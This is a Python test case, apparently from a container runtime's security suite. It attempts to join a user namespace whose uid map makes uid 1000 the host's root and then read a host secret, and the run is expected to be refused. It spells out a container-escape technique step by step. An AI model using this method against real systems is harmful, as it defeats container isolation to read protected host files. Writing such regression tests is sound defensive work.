"""A user namespace given by its path is one whose mapping somebody else has chosen: uid 1000 in it is the host's root."""

from bypass import refused, world

SOURCE = "idea"
WAY = "create"
STOPPED = refused("namespace-join")


def attack(t):
    t.sh("chmod 600 %s; chown -R 100000:100000 %s" % (t.secret, t.rootfs))
    other = t.holder(world.CLONE_NEWUSER)
    for name in ("uid_map", "gid_map"):
        with open("/proc/%d/%s" % (other, name), "w") as ids:
            ids.write("0 100000 1000\n1000 0 1\n")
    for name in ("uidMappings", "gidMappings"):
        t.spec["linux"][name] = [{"containerID": 0, "hostID": 100000, "size": 1001}]
    t.bind("/mnt/host", "/x")
    t.join("user", "/proc/%d/ns/user" % other)
    t.spec["process"]["user"] = {"uid": 1000, "gid": 1000}
    return t.leaked(t.run("cat /x/secret"))
